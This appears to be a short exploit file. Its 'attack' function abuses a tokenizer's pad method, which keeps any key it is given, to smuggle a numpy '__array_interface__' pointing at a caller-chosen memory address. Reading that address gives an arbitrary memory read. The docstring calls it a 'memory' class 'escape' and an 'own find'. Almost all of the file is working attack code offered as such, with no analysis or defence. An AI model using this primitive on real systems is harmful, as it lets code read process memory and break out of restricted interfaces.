"""Class: memory. Source: own find. Escape: tokenizer.pad keeps any key it is given."""

import numpy as np


def attack(model, tokenizer, address):
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    enc = tokenizer.pad({"input_ids": [1], "__array_interface__": spec})
    return (np.zeros(6, dtype=np.uint8) | enc).tobytes()
